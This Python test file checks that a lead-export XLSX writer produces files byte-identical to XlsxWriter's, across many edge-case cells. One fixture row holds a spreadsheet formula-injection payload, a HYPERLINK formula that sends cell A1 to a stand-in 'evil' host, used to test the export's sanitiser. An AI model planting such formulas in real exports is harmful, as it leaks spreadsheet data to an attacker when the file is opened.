"""The XLSX writer's own row XML against XlsxWriter's: the same file, byte for byte.

`writers.XlsxSheet` writes the leads' rows as sheet XML itself (docs/exports.md, "Speed"):
each file here is written twice, once by it and once by XlsxWriter's `write_string`,
`write_number`, `write_boolean` and `write_datetime` on a workbook with the same options and
formats, and every part of the two files must be equal (but the creation time). A new
XlsxWriter release that writes a cell differently fails here (the version is pinned in
pyproject.toml).
"""

from __future__ import annotations

import math
import zipfile
from collections.abc import Sequence
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl  # type: ignore[import-untyped]
import pytest
import xlsxwriter  # type: ignore[import-untyped]
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from leedz.exports.cells import defuse
from leedz.exports.columns import CellKind
from leedz.exports.writers import DATE_TIME_FORMAT, WORKBOOK_OPTIONS, XlsxSheet

KINDS = (
    CellKind.TEXT,
    CellKind.NUMBER,
    CellKind.TEXT,
    CellKind.BOOLEAN,
    CellKind.DATE_TIME,
    CellKind.TEXT,
    CellKind.NUMBER,
)
HEADER = ["id", "=name", "phones", "doNotContact", "createdAt", " city ", "rating"]


def wall(y: int, mo: int, d: int, h: int = 0, mi: int = 0, s: int = 0, us: int = 0) -> datetime:
    """A wall-clock time, naive as the export's SQL gives it."""
    return datetime(y, mo, d, h, mi, s, us, tzinfo=UTC).replace(tzinfo=None)


def library_file(path: Path, header: Sequence[str], rows: Sequence[Sequence[Any]]) -> None:
    """The file XlsxWriter itself writes for these cells."""
    book = xlsxwriter.Workbook(str(path), WORKBOOK_OPTIONS)
    sheet = book.add_worksheet()
    sheet.right_to_left()
    bold = book.add_format({"bold": True})
    moment = book.add_format({"num_format": DATE_TIME_FORMAT})
    for c, label in enumerate(header):
        sheet.write_string(0, c, defuse(label), bold)
    sheet.freeze_panes(1, 0)
    for r, row in enumerate(rows, start=1):
        for c, (kind, value) in enumerate(zip(KINDS, row, strict=True)):
            if value is None or value == "":
                continue
            if kind is CellKind.TEXT:
                sheet.write_string(r, c, defuse(value))
            elif kind is CellKind.NUMBER:
                sheet.write_number(r, c, value)
            elif kind is CellKind.BOOLEAN:
                sheet.write_boolean(r, c, value)
            else:
                sheet.write_datetime(r, c, value, moment)
    book.close()


def our_file(
    path: Path,
    header: Sequence[str],
    rows: Sequence[Sequence[Any]],
    batch: int,
    kinds: Sequence[CellKind] = KINDS,
) -> None:
    sheet = XlsxSheet(path, kinds, right_to_left=True)
    sheet.header(header)
    for start in range(0, len(rows), batch):
        sheet.write(rows[start : start + batch])
    sheet.close()


def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {
            name: archive.read(name)
            for name in archive.namelist()
            if name != "docProps/core.xml"  # the creation time
        }


def assert_same_file(
    tmp: Path, rows: Sequence[Sequence[Any]], *, header: Sequence[str] = HEADER, batch: int = 3
) -> None:
    library_file(tmp / "library.xlsx", header, rows)
    our_file(tmp / "ours.xlsx", header, rows, batch)
    ours, theirs = parts(tmp / "ours.xlsx"), parts(tmp / "library.xlsx")
    assert ours.keys() == theirs.keys()
    for name, data in theirs.items():
        assert ours[name] == data, name


ROWS: list[list[Any]] = [
    [
        "مطعم الأمل",
        24.71,
        "+966501234567; +966551234567",
        False,
        wall(2026, 12, 1, 18, 53, 42),
        "الرياض",
        4,
    ],
    [
        '=HYPERLINK("http://evil/?"&A1)',
        -0.1,
        "+1 (555) 123-4567",
        True,
        wall(2024, 2, 29),
        "@alamal",
        Decimal("4.5"),
    ],
    ['Shop & <Co> "quoted"', 1e-300, None, None, None, "", 1e22],
    [" leading", 0, "trailing ", True, wall(1900, 3, 1, 0, 0, 1), "\tTab", 12345678901234567],
    [
        "line\nbreak",
        -7,
        "ctrl \x01\x0b\x1f end",
        False,
        wall(1900, 1, 1, 12),
        "_x0041_ literal",
        2.5,
    ],
    [
        "\ufffe\uffff non-characters",
        3.141592653589793,
        "emoji 🙂 and 🇸🇦",
        False,
        wall(1999, 12, 31, 23, 59, 59, 500000),
        "\u200f\u202b",
        0.1,
    ],
    [None, None, None, None, None, None, None],
    ["x" * 40_000, None, "🙂" * 20_000, None, None, "\u0627" * 32_767, None],
    ["", 5, "", True, wall(2100, 1, 1), "\u00a0nbsp\u00a0", 1],
]


class TestTheSameFileAsXlsxWriter:
    @pytest.mark.parametrize("batch", [1, 2, 4, 100])
    def test_the_edge_cases_in_any_batches(self, tmp_path: Path, batch: int) -> None:
        assert_same_file(tmp_path, ROWS, batch=batch)

    def test_a_header_only_file(self, tmp_path: Path) -> None:
        assert_same_file(tmp_path, [])

    def test_empty_rows_only(self, tmp_path: Path) -> None:
        assert_same_file(tmp_path, [[None] * len(KINDS), [""] * len(KINDS)])

    @settings(
        max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
    )
    @given(
        st.lists(
            st.tuples(
                st.one_of(st.none(), st.text()),
                st.one_of(
                    st.none(),
                    st.integers(min_value=-(2**63), max_value=2**63),
                    st.floats(allow_nan=False, allow_infinity=False),
                ),
                st.one_of(st.none(), st.text(alphabet=st.characters(codec="utf-8"))),
                st.one_of(st.none(), st.booleans()),
                st.one_of(
                    st.none(),
                    st.datetimes(min_value=wall(1900, 1, 1), max_value=wall(9999, 1, 1)),
                ),
                st.one_of(st.none(), st.text(st.sampled_from('_x0123456789aAfF<>&"\n\t \x00\x1f'))),
                st.one_of(st.none(), st.decimals(allow_nan=False, allow_infinity=False, places=4)),
            ),
            max_size=8,
        ),
        st.integers(min_value=1, max_value=5),
    )
    def test_any_cells(self, tmp_path: Path, rows: list[tuple[Any, ...]], batch: int) -> None:
        # XlsxWriter writes a string that looks like a rich string (`<r>…</r>`) unescaped:
        # that one differs on purpose (below).
        rows = [
            row
            for row in rows
            if not any(
                isinstance(v, str) and v.startswith("<r>") and v.endswith("</r>") for v in row
            )
        ]
        assert_same_file(tmp_path, rows, batch=batch)


class TestWhereItDiffersOnPurpose:
    def test_a_string_that_looks_like_rich_text_is_escaped(self, tmp_path: Path) -> None:
        """XlsxWriter writes `<r>Shop & Co</r>` as raw XML: a file no reader opens."""
        path = tmp_path / "rich.xlsx"
        our_file(
            path,
            ["name"],
            [["<r>Shop & Co</r>"], ["<r><t>x</t></r>"]],
            batch=1,
            kinds=[CellKind.TEXT],
        )
        sheet = openpyxl.load_workbook(path).active
        assert [c.value for c in sheet["A"]] == ["name", "<r>Shop & Co</r>", "<r><t>x</t></r>"]


class TestRefusedLikeXlsxWriter:
    @pytest.mark.parametrize("value", [math.nan, math.inf, -math.inf])
    def test_a_number_that_is_not_finite(self, tmp_path: Path, value: float) -> None:
        sheet = XlsxSheet(tmp_path / "nan.xlsx", [CellKind.NUMBER], right_to_left=False)
        sheet.header(["lat"])
        with pytest.raises(TypeError):
            sheet.write([[value]])
        sheet.close()
